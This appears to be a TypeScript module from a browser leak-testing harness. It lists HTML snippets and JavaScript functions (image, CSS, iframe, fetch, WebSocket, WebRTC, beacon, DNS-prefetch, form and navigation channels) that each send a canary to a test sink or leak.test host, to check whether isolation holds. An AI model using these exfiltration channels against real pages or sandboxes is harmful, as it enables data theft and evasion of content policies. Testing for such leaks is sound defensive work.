// The ways out that are tried. Each is a function that runs in the browser, in a page or a worker, and
// gets an address at the sink whose path says which way it is and carries the canary; it knows nothing
// of this module. `leaves`: it takes the page somewhere else, so it gets one of its own.

export interface Channel {
  name: string;
  /** `url` is http://host:port/<channel>/<canary>. */
  run: (url: string) => unknown;
  leaves?: true;
  /** Recognised by something else than the path: any UDP packet, or a name that was looked up. */
  seenAs?: 'udp' | 'dns';
}

/** Elements whose mere presence asks for something. */
export const ELEMENT_CHANNELS: readonly [name: string, html: (url: string) => string][] = [
  ['image', (url) => `<img src="${url}">`],
  ['image in srcset', (url) => `<img srcset="${url} 2x" sizes="1px">`],
  ['image in svg', (url) => `<svg><image href="${url}"/></svg>`],
  ['use in svg', (url) => `<svg><use href="${url}#a"/></svg>`],
  ['image button', (url) => `<input type="image" src="${url}">`],
  ['style attribute', (url) => `<p style="background: url(${url})">x</p>`],
  ['style sheet', (url) => `<link rel="stylesheet" href="${url}.css">`],
  ['import in a style', (url) => `<style>@import "${url}.css";</style>`],
  [
    'font in a style',
    (url) => `<style>@font-face{font-family:leak;src:url(${url})}</style><p style="font:9px leak">x`,
  ],
  ['video', (url) => `<video src="${url}"></video>`],
  ['poster', (url) => `<video poster="${url}"></video>`],
  ['audio', (url) => `<audio src="${url}"></audio>`],
  ['subtitles', (url) => `<video crossorigin><track default kind="captions" src="${url}"></video>`],
  ['object', (url) => `<object data="${url}"></object>`],
  ['embed', (url) => `<embed src="${url}">`],
  ['frame', (url) => `<iframe src="${url}"></iframe>`],
  ['frame by srcdoc', (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`],
  [
    'sandboxed frame',
    (url) => `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('${url}')</script>"></iframe>`,
  ],
  [
    'refresh in a frame',
    (url) => `<iframe sandbox srcdoc="<meta http-equiv=refresh content='0;url=${url}'>"></iframe>`,
  ],
  ['icon', (url) => `<link rel="icon" href="${url}">`],
  ['prefetch', (url) => `<link rel="prefetch" href="${url}">`],
  ['preload', (url) => `<link rel="preload" as="image" href="${url}">`],
  ['module preload', (url) => `<link rel="modulepreload" href="${url}.js">`],
];

/** Works in pages and workers alike. */
const anywhere: Channel[] = [
  { name: 'fetch', run: (url) => fetch(url) },
  { name: 'fetch with a body', run: (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: url }) },
  { name: 'fetch that outlives', run: (url) => fetch(url, { keepalive: true, mode: 'no-cors' }) },
  {
    name: 'XMLHttpRequest',
    run: (url) => {
      const request = new XMLHttpRequest();
      request.open('POST', url);
      request.send(url);
    },
  },
  { name: 'WebSocket', run: (url) => new WebSocket(url.replace('http', 'ws')) },
  { name: 'EventSource', run: (url) => new EventSource(url) },
  {
    name: 'WebTransport',
    run: (url) => new WebTransport(url.replace('http', 'https')).ready,
    seenAs: 'udp',
  },
  { name: 'font', run: (url) => new FontFace('leak', `url(${url})`).load() },
  { name: 'import', run: (url) => import(/* @vite-ignore */ `${url}.js`) },
  { name: 'worker', run: (url) => new Worker(`${url}.js`) },
  {
    name: 'worker from a blob',
    run: (url) => new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`]))),
  },
  {
    name: 'worker from data',
    run: (url) => new Worker(`data:text/javascript,fetch('${url}')`),
  },
];

const inPages: Channel[] = [
  { name: 'beacon', run: (url) => navigator.sendBeacon(url, url) },
  { name: 'image object', run: (url) => (new Image().src = url) },
  {
    name: 'WebRTC',
    seenAs: 'udp',
    run: async (url) => {
      const server = new URL(url).host;
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${server}` }] });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: 'shared worker',
    run: (url) => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${url}')`]))),
  },
  {
    name: 'script',
    run: (url) => {
      const script = document.createElement('script');
      script.src = `${url}.js`;
      document.head.append(script);
    },
  },
  {
    name: 'ping of a link',
    run: (url) => {
      const link = document.createElement('a');
      link.href = '#here';
      link.ping = url;
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'preconnect',
    seenAs: 'dns',
    run: (url) => {
      const { port, pathname } = new URL(url);
      const name = pathname.slice(1).replace(/[^a-z0-9]/gi, '-');
      document.head.append(
        Object.assign(document.createElement('link'), {
          rel: 'preconnect',
          href: `http://${name}.leak.test:${port}/`,
        }),
      );
    },
  },
  {
    name: 'dns hint',
    seenAs: 'dns',
    run: (url) => {
      const name = new URL(url).pathname.slice(1).replace(/[^a-z0-9]/gi, '-');
      document.head.append(
        Object.assign(document.createElement('link'), {
          rel: 'dns-prefetch',
          href: `http://${name}.leak.test/`,
        }),
      );
    },
  },
  {
    name: 'speculation rules',
    run: (url) => {
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      rules.textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }] });
      document.head.append(rules);
    },
  },
  {
    name: 'form into a frame',
    run: (url) => {
      const frame = document.createElement('iframe');
      frame.name = 'target';
      const form = document.createElement('form');
      Object.assign(form, { action: url, method: 'post', target: 'target' });
      document.body.append(frame, form);
      form.submit();
    },
  },
  { name: 'window', run: (url) => window.open(url) },
  {
    name: 'link to a new window',
    run: (url) => {
      const link = document.createElement('a');
      Object.assign(link, { href: url, target: '_blank' });
      document.body.append(link);
      link.click();
    },
  },
  { name: 'location', leaves: true, run: (url) => (location.href = url) },
  {
    name: 'link',
    leaves: true,
    run: (url) => {
      const link = document.createElement('a');
      link.href = url;
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'form',
    leaves: true,
    run: (url) => {
      const form = document.createElement('form');
      form.action = url;
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'refresh',
    leaves: true,
    run: (url) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=${url}`;
      document.head.append(meta);
    },
  },
];

export const PAGE_CHANNELS: readonly Channel[] = [...anywhere, ...inPages];
export const WORKER_CHANNELS: readonly Channel[] = anywhere;
